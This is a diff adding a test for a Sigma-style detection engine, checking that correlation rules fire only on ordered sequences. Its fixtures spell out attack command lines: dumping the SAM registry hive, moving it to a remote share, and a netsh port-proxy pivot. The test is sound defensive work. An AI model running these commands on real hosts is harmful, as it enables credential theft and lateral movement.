@@ -416,6 +416,32 @@ describe('the built-in rule pack', () => {
     expect(alert.rule.defender).toContain('Ntdsutil collecting Active Directory information');
   });
 
+  it('raises its correlation rules on the sequences they name, and not on either step alone', () => {
+    const withCorrelations = new SigmaEngine(pack.rules, { correlations: pack.correlations });
+    const at = (minute: number, e: RawEvent): RawEvent => ({ ...e, time: Date.UTC(2023, 4, 16, 10, minute) });
+    const titles = (events: RawEvent[]) =>
+      events
+        .flatMap((e) => withCorrelations.evaluate(normalize(e)))
+        .filter((a) => a.rule.kind === 'correlation')
+        .map((a) => a.rule.title);
+    const save = sysmon1('reg save hklm\\sam C:\\Windows\\Temp\\sam.save', 'C:\\Windows\\System32\\reg.exe');
+    const move = sysmon1(
+      'cmd.exe /c move C:\\Windows\\Temp\\sam.save \\\\10.0.0.9\\c$\\users\\public\\sam.save',
+    );
+    expect(titles([at(0, save), at(5, move)])).toEqual(['Registry Hives Saved, Then Moved']);
+    expect(titles([at(0, move), at(5, save)])).toEqual([]);
+    const netsh = 'C:\\Windows\\System32\\netsh.exe';
+    const add = sysmon1(
+      'netsh interface portproxy add v4tov4 listenport=9999 connectaddress=10.0.0.5 connectport=8443',
+      netsh,
+    );
+    const remove = sysmon1('netsh interface portproxy delete v4tov4 listenport=9999', netsh);
+    expect(titles([at(0, add), at(40, remove)])).toEqual([
+      'Port Proxy To Another Host, Then Changed Or Removed',
+    ]);
+    expect(titles([at(0, add)])).toEqual([]);
+  });
+
   it('fires on the behaviours the shared samples lack, written as test/fixtures/pack-behaviours.jsonl', async () => {
     const { events } = await readAllItems([path.join('test', 'fixtures', 'pack-behaviours.jsonl')]);
     const want = [
